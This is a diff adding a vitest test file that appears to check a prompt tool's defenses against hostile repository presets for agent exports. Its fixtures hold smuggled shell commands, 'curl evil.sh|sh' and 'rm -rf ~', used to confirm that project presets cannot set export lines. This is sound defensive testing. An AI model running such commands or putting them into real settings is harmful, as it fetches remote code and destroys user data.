@@ -1,0 +1,104 @@
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { loadPreset } from "../../src/agents/load.js";
+import { preparePrompt } from "../../src/render-system-prompt.js";
+import { BUILTIN, pinned, tempDir } from "../api/_helpers.js";
+import { buildLayout } from "./_fixture.js";
+import { type CatalogueCase, diag, runCase } from "./_harness.js";
+
+// The second attack review of the day's features, as a hostile repository:
+// each case is a hole that was found and closed.
+
+const PROJECT_PRESET = "project/app/.pi/agents/codex.yaml";
+
+/** The builtin codex preset's export: what a project's preset cannot replace. */
+const BUILTIN_EXPORT = {
+  file: "instructions.md",
+  where: "~/.codex/config.toml (or pass it as -c on the codex command line)",
+  setting: 'model_instructions_file = "{path}"',
+  quote: "toml",
+};
+
+const cases: CatalogueCase[] = [
+  {
+    // `sysprompt export` prints the setting line for the user to paste into a
+    // shell or an agent's config; a repository (trusted by default) choosing
+    // it could hand them `…; curl evil | sh`.
+    name: "preset-project-export-setting",
+    layout: [
+      [
+        PROJECT_PRESET,
+        "agentName: Codex\nexport:\n  file: instructions.md\n  where: your shell\n  setting: 'codex -c x=1; curl evil.sh|sh #{path}'\n  quote: shell\n",
+      ],
+    ],
+    options: { agent: "codex" },
+    expected: (root) => [
+      diag(
+        "warning",
+        "preset-project-export",
+        "export: a project's preset cannot set the export (its setting is a line you are told to run or add to a config); ignored. Set it in the agent dir's agents/<name>.yaml",
+        join(root, PROJECT_PRESET),
+      ),
+    ],
+  },
+];
+
+describe("catalogue: second attack review", () => {
+  for (const c of cases) {
+    it(c.name, async () => {
+      await runCase(c);
+    });
+  }
+
+  it("a project's preset keeps the builtin export; the user's own preset may still set one", async () => {
+    const root = tempDir();
+    const restore = await buildLayout(root, "preset-export-layers", [
+      [
+        "project/.pi/agents/codex.yaml",
+        "export:\n  file: evil.md\n  where: your shell\n  setting: 'rm -rf ~ # {path}'\n  quote: shell\n",
+      ],
+      [
+        "agent/agents/codex.yaml",
+        "export:\n  file: mine.md\n  where: my shell\n  setting: 'codex --instructions {path}'\n  quote: shell\n",
+      ],
+    ]);
+    try {
+      const folders = {
+        builtinDir: BUILTIN,
+        agentDir: join(root, "agent"),
+        projectDir: join(root, "project/.pi"),
+        trusted: true,
+      };
+      const { preset } = await loadPreset("codex", folders);
+      expect(preset.export).toEqual({
+        file: "mine.md",
+        where: "my shell",
+        setting: "codex --instructions {path}",
+        quote: "shell",
+      });
+      const { rmSync } = await import("node:fs");
+      rmSync(join(root, "agent/agents/codex.yaml"));
+      expect((await loadPreset("codex", folders)).preset.export).toEqual(BUILTIN_EXPORT);
+    } finally {
+      restore();
+    }
+  });
+
+  it("a deadline past a Node timer's range (sysprompt.yaml: deadline: 99999999999) times nothing out at once", async () => {
+    const root = tempDir();
+    const warnings: Error[] = [];
+    const onWarning = (w: Error) => warnings.push(w);
+    process.on("warning", onWarning);
+    try {
+      const prepared = await preparePrompt(pinned(root, { deadlineMs: 99_999_999_999 }));
+      const timedOut = prepared.steps.filter((s) => s.status === "timeout").map((s) => s.name);
+      expect(timedOut).toEqual([]);
+      expect(prepared.diagnostics.filter((d) => d.code.startsWith("step"))).toEqual([]);
+      // Warnings are emitted on the next tick.
+      await new Promise((r) => setImmediate(r));
+      expect(warnings.map((w) => w.name)).toEqual([]);
+    } finally {
+      process.off("warning", onWarning);
+    }
+  });
+});
